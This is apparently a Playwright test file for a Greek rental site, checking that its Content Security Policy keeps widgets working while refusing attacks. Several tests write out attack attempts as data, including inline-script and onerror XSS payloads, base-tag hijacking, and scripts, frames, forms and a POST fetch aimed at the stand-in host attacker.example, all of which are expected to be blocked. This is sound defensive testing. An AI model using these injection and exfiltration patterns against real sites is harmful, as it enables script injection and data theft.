import type { BrowserContext, Page } from "playwright-core";
import { chat, map } from "../../../locales/el/common.json";
import { canRent } from "../../../locales/el/home.json";
import { pathOf } from "../../built/site";
import { DESKTOP, PHONE, VISITOR, address, hydrated, sharedBrowser, watchedPage } from "../../browser/site";
import { failing } from "../../failing-cases";

/*
 * What the headers allow and refuse, seen in a browser. That every page opens without a violation is tested in browser/every-page.test.ts.
 */

const browser = sharedBrowser();

const TERMS = pathOf("booking-terms");

let context: BrowserContext;
/** Requests to anybody but the site. */
let foreign: string[];

beforeEach(async () => {
  context = await browser.newContext({ ...DESKTOP, permissions: ["clipboard-write"] });
  foreign = [];
  context.on("request", (request) => {
    if (!request.url().startsWith(address("/")) && !request.url().startsWith("data:")) {
      foreign.push(request.url());
    }
  });
});
afterEach(async () => {
  await context.close();
});

test("every widget works under the policy, and before consent nobody else is asked", async () => {
  const { page, faults } = await watchedPage(context);
  await page.goto(address("/el"));
  await hydrated(page);

  await page.locator("header summary:visible").click();
  await page.locator('header details[open] a[hreflang="en"]').waitFor();
  await page.keyboard.press("Escape");

  for (const name of ["WhatsApp", "Viber"]) {
    await page.locator("aside a", { hasText: name }).click();
    const image = page.getByRole("dialog").locator("img");
    await image.waitFor();
    expect(await image.evaluate((element: HTMLImageElement) => element.decode().then(() => element.naturalWidth))).toBe(256);
    await page.getByRole("dialog").getByRole("button", { name: chat.copy }).click();
    await page.getByText(chat.copied).waitFor();
    await page.keyboard.press("Escape");
  }

  const question = page.locator('main button[aria-controls][aria-expanded="false"]').first();
  const id = (await question.getAttribute("id")) ?? "";
  await question.click();
  await page.locator(`[id="${id}"][aria-expanded="true"]`).waitFor();

  const form = page.getByRole("group", { name: canRent.title });
  const before = await form.getByRole("status").innerText();
  await form.getByRole("radio").last().check();
  await page.waitForFunction((text) => document.querySelector<HTMLElement>("main [role=status]")?.innerText !== text, before);
  for (const hold of await page.getByRole("switch").all()) {
    await hold.focus();
    await page.keyboard.press("Space");
    expect(await hold.isChecked()).toBe(true);
  }

  // A picture that does not come is replaced by its words.
  await page.route("**/missing.avif", (route) => route.fulfill({ status: 404 }));
  const picture = page.locator("footer, main").locator('picture img:not([alt=""])').last();
  const words = (await picture.getAttribute("alt")) ?? "";
  await picture.scrollIntoViewIfNeeded();
  await picture.evaluate((element: HTMLImageElement) => {
    element.parentElement?.querySelectorAll("source").forEach((source) => {
      source.remove();
    });
    element.removeAttribute("srcset");
    element.src = "/missing.avif";
  });
  await page.getByRole("img", { name: words }).and(page.locator(":not(img)")).waitFor();

  expect(foreign).toEqual([]);
  expect(faults.filter((fault) => !fault.includes("404"))).toEqual([]);
});

test("the map that a visitor asks for comes, in its frame and from Google alone", async () => {
  await context.route("https://www.google.com/**", (route) => route.fulfill({ contentType: "text/html", body: "<p>map</p>" }));
  const { page, faults } = await watchedPage(context);
  await page.goto(address(pathOf("directions", "el")));
  await hydrated(page);
  expect(foreign).toEqual([]);
  await page.getByRole("button", { name: map.google.show }).click();
  await page.frameLocator(`iframe[title="${map.google.title}"]`).getByText("map").waitFor();
  expect(faults).toEqual([]);
});

test("suggestions for an address that does not exist, and the bar that offers a language, come under the policy", async () => {
  const visit = await browser.newContext({ ...PHONE, locale: "el-GR", userAgent: VISITOR });
  const { page, faults } = await watchedPage(visit);
  await page.goto(address(TERMS.slice(0, -1)));
  await hydrated(page);
  await page.locator(`main a[href="${TERMS}"]`).first().click();
  await page.waitForURL(address(TERMS));
  await page.locator("aside[data-offer]:visible").waitFor();
  expect(faults.filter((fault) => !fault.includes("404"))).toEqual([]);
  await visit.close();
});

/** Tries something on a page and tells what the policy said of it. */
function violation(page: Page, attempt: string): Promise<string> {
  return page.evaluate(
    (script) =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          resolve(effectiveDirective);
        });
        const attempts: Readonly<Record<string, () => void>> = {
          "a script in the page": () => {
            document.body.append(Object.assign(document.createElement("script"), { text: "window.attacked = true" }));
          },
          "a handler in an attribute": () => {
            document.body.setAttribute("onclick", "window.attacked = true");
          },
          "another site's script": () => {
            document.body.append(Object.assign(document.createElement("script"), { src: "https://attacker.example/a.js" }));
          },
          "a text as HTML": () => {
            document.body.innerHTML = "<img src=x onerror='window.attacked = true'>";
          },
          "a style in the page": () => {
            document.body.append(Object.assign(document.createElement("style"), { textContent: "body { display: none }" }));
          },
          "another site's picture": () => {
            document.body.append(Object.assign(document.createElement("img"), { src: "https://attacker.example/pixel.gif" }));
          },
          "another site's frame": () => {
            document.body.append(Object.assign(document.createElement("iframe"), { src: "https://attacker.example/" }));
          },
          "a request to another site": () => {
            void fetch("https://attacker.example/", { method: "POST" }).catch(() => undefined);
          },
          "another base for links": () => {
            document.head.append(Object.assign(document.createElement("base"), { href: "https://attacker.example/" }));
          },
          "a form that sends to another site": () => {
            const form = Object.assign(document.createElement("form"), { action: "https://attacker.example/", method: "post" });
            document.body.append(form);
            form.submit();
          },
        };
        try {
          attempts[script]?.();
        } catch {
          // A refusal by Trusted Types is thrown, and told as a violation too.
        }
      }),
    attempt,
  );
}

test("what an attacker would do is refused", async () => {
  const page = await context.newPage();
  const allowed = await failing(
    [
      ["a script in the page", /require-trusted-types-for/],
      ["a handler in an attribute", /require-trusted-types-for/],
      ["another site's script", /require-trusted-types-for/],
      ["a text as HTML", /require-trusted-types-for/],
      ["a style in the page", /style-src/],
      ["another site's picture", /img-src/],
      ["another site's frame", /frame-src/],
      ["a request to another site", /connect-src/],
      ["another base for links", /base-uri/],
      ["a form that sends to another site", /form-action/],
    ] as const,
    async ([attempt, directive]) => {
      await page.goto(address(TERMS));
      expect(await violation(page, attempt)).toMatch(directive);
      expect(await page.evaluate(() => "attacked" in window)).toBe(false);
      expect(await page.locator("h1").isVisible()).toBe(true);
    },
  );
  expect(allowed).toEqual([]);
});

test("what somebody wrote into the HTML on its way neither runs nor styles", async () => {
  const page = await context.newPage();
  const refused: string[] = [];
  page.on("console", (message) => {
    refused.push(message.text());
  });
  await page.route(address(TERMS), async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace(
      "</body>",
      `<script>window.attacked = true</script><img src="/x" onerror="window.attacked = true"><style>h1 { display: none }</style></body>`,
    );
    await route.fulfill({ response, body: html });
  });
  await page.goto(address(TERMS), { waitUntil: "load" });
  expect(await page.evaluate(() => "attacked" in window)).toBe(false);
  expect(await page.locator("h1").isVisible()).toBe(true);
  expect(refused.filter((text) => text.includes("Content Security Policy")).length).toBeGreaterThanOrEqual(3);
});

test("no other page can show the site in a frame", async () => {
  const page = await context.newPage();
  await page.route(address("/frame"), (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="/"></iframe>` }));
  const refused = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
  await page.goto(address("/frame"));
  await refused;
  expect(page.frames().map((frame) => frame.url())).not.toContain(address("/"));
});
